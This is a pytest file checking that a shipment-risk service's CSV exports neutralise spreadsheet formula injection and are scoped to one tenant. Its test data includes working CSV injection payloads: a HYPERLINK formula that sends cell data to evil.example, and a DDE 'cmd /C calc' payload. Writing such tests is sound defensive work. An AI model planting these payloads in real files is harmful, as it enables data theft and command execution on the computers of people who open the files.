"""Exports hold no spreadsheet formula (CSV injection) and cover one tenant unless told otherwise.

The store is filled directly (no trained home needed): a client's shipment id, party names and
outcome source that start like formulas, in two tenants."""

import csv
import io
import re

import pytest
from click.testing import CliRunner

from features.shipment import Item, Party
from service.cli import main
from service.db import Database
from service.decisions import Decisions
from service.exports import FORMULA_START, spreadsheet_safe, write_decisions
from service.keys import Caller
from service.settings import Settings
from tests.conftest import empty_store, make_shipment

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTab Trading", "\r=1+1"]
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def result(decision_id: str) -> dict:
    return {"decision_id": decision_id, "signals": {}, "score": 0.5, "band": "high", "base": -2.5,
            "reasons": [{"code": "SANCTIONED_PARTY"}], "model_version": "m", "lists_version": "l"}


@pytest.fixture
def run(tmp_path, database_url, monkeypatch):
    """The CLI on a store holding one hostile decision per text of HOSTILE for tenant acme, settled
    as confirmed diversions (source and name hostile too), and one plain decision of tenant globex."""
    settings = Settings(home=tmp_path / "home", database_url=database_url)
    monkeypatch.setenv("DIVERSION_RISK_HOME", str(settings.home))
    monkeypatch.setenv("DIVERSION_RISK_DATABASE_URL", database_url)
    db = Database(settings)
    db.upgrade()
    decisions = Decisions(db)
    acme, globex = Caller("k1", "acme", frozenset({"score"})), Caller("k2", "globex", frozenset({"score"}))
    for i, text in enumerate(HOSTILE):
        shipment = make_shipment(shipment_id=text, items=(Item("8542.31", text, 1, 10.0, "USD"),),
                                 parties=(Party("consignee", text, "KZ"),))
        decisions.record(acme, [(shipment, result(f"acme-{i}"))])
        decisions.add_outcome(acme, f"acme-{i}", "confirmed_diversion", text, "")
    decisions.record(globex, [(make_shipment(shipment_id="G-1"), result("globex-0"))])
    decisions.add_outcome(globex, "globex-0", "cleared", "audit", "")
    yield lambda *args: CliRunner().invoke(main, list(args), catch_exceptions=False)
    empty_store(database_url)


def cells(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def assert_no_formula(rows: list[dict]) -> None:
    """No cell starts like a formula, but for numbers we wrote (a negative base)."""
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_START) or NUMBER.fullmatch(value), (column, value)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_starting_like_a_formula_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["AWB-0001", "Möbel GmbH", "2023-05-02", "", -2.5, 0.25, 7, None])
def test_other_cells_are_kept(value):
    assert spreadsheet_safe(value) == value


def test_the_decisions_csv_holds_no_formula(run, tmp_path):
    out = tmp_path / "d.csv"
    assert run("decisions", "export", "--since", "2000-01-01", "--tenant", "acme", "--format", "csv",
               "--out", str(out)).exit_code == 0
    rows = cells(out)
    assert [r["shipment_id"] for r in rows] == ["'" + text for text in HOSTILE]
    assert [r["outcome_source"] for r in rows] == ["'" + text for text in HOSTILE]
    assert rows[0]["base"] == "-2.5"  # a number is no formula
    assert_no_formula(rows)


def test_the_training_csv_holds_no_formula(run, tmp_path):
    out = tmp_path / "t.csv"
    assert run("export-training", "--since", "2000-01-01", "--tenant", "acme", "--out", str(out)).exit_code == 0
    rows = cells(out)
    assert [r["consignee_name"] for r in rows] == ["'" + text for text in HOSTILE]
    assert_no_formula(rows)


def test_jsonl_keeps_the_text_as_recorded(run):
    output = run("decisions", "export", "--since", "2000-01-01", "--tenant", "acme").output
    assert '"shipment_id": "=HYPERLINK' in output


@pytest.mark.parametrize("command", [("decisions", "export"), ("export-training", "--out", "x.csv")])
def test_an_export_names_its_tenant_or_says_all(run, command):
    neither = run(*command, "--since", "2000-01-01")
    assert neither.exit_code == 2 and "--tenant" in neither.output and "--all-tenants" in neither.output
    both = run(*command, "--since", "2000-01-01", "--tenant", "acme", "--all-tenants")
    assert both.exit_code == 2 and "not both" in both.output
    assert run(*command, "--since", "2000-01-01", "--tenant", "").exit_code == 2


def test_an_export_covers_the_tenant_it_names(run, tmp_path):
    tenants = {}
    for scope in (("--tenant", "globex"), ("--tenant", "acme"), ("--all-tenants",)):
        out = tmp_path / "d.csv"
        run("decisions", "export", "--since", "2000-01-01", *scope, "--format", "csv", "--out", str(out))
        tenants[scope[-1]] = sorted({r["tenant"] for r in cells(out)})
    assert tenants == {"globex": ["globex"], "acme": ["acme"], "--all-tenants": ["acme", "globex"]}
    out = tmp_path / "t.csv"
    run("export-training", "--since", "2000-01-01", "--tenant", "globex", "--out", str(out))
    assert [r["decision_id"] for r in cells(out)] == ["globex-0"]


def test_every_csv_writer_goes_through_the_one_rule():
    """write_decisions on a bare decision: the rule holds without the CLI too."""
    out = io.StringIO()
    decision = {"decision_id": "d", "shipment_id": "=1+1", "tenant": "@t", "reasons": [], "outcome": None,
                "input": {"shipment_id": "=1+1"}}
    write_decisions([decision], out, "csv")
    assert_no_formula(list(csv.DictReader(io.StringIO(out.getvalue()))))
